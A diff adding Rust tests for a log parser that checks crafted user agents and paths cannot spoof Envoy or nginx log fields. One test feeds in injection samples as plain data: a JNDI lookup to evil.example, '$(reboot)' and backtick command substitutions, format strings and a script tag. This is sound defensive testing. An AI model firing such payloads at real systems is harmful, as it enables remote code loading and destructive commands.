@@ -1,0 +1,56 @@
+//! Fields that try to be other fields.
+
+use brownout::Field;
+
+use super::{count, parsed};
+
+/// What Envoy's log must still say, whatever the user agent is.
+fn envoy(user_agent: &str) -> Option<(u16, Option<Vec<u8>>, Option<Vec<u8>>)> {
+    let line = format!(
+        r#"[2026-11-22T07:23:26.415Z] "GET / HTTP/1.1" 503 UF 0 14 8 - "-" "{user_agent}" "6fd9" "shop" "10.0.0.1:80""#
+    );
+    parsed("envoy", line.as_bytes(), |record| {
+        let raw = |field| record.raw(field).map(<[u8]>::to_vec);
+        (record.status().unwrap().code(), raw(Field::Reason), raw(Field::UpstreamAddr))
+    })
+    .ok()
+}
+
+#[test]
+fn a_user_agent_cannot_move_what_envoy_says() {
+    let truth = Some((503, Some(b"UF".to_vec()), Some(b"10.0.0.1:80".to_vec())));
+    for user_agent in [
+        "curl/8",
+        r#"""#,
+        r#"x" "id" "evil" "10.9.9.9:1"#,
+        r#"x" 200 - 0 0"#,
+        r#"" "" "" "" ""#,
+        r#"x" "6fd9" "shop" "10.9.9.9:80" "y"#,
+        r"\",
+        r#"\""#,
+    ] {
+        assert_eq!(envoy(user_agent), truth, "{user_agent}");
+    }
+}
+
+/// nginx escapes quotes: what looks like one is none, and the status is where it was written.
+#[test]
+fn nginx_escapes_hold() {
+    for path in [r"/\x22 500 0 \x22", r"/\x22", r"/\", r"/%22 500", r"/ HTTP/1.1\x22 500 1 \x22"] {
+        let line =
+            format!(r#"192.0.2.1 - - [22/Nov/2026:07:00:00 +0000] "GET {path} HTTP/1.1" 200 5 "-" "{path}""#);
+        let status = parsed("nginx-combined", line.as_bytes(), |r| r.status().map(brownout::Status::code));
+        assert_eq!(status, Ok(Some(200)), "{path}");
+    }
+}
+
+/// Nothing that stands in a log is looked up, formatted or run.
+#[test]
+fn lookups_and_formats_are_plain_bytes() {
+    for text in ["${jndi:ldap://evil.example/a}", "%n%n%s", "{}{0}{x}", "$(reboot)", "`reboot`", "<script>"] {
+        let log =
+            format!("192.0.2.1 [2026-11-22T07:00:00Z] \"GET /{text} HTTP/1.1\" 200 10.0.0.1:80 {text}\n");
+        let summary = count(log.as_bytes());
+        assert_eq!(summary.upstreams[0].name, text);
+    }
+}
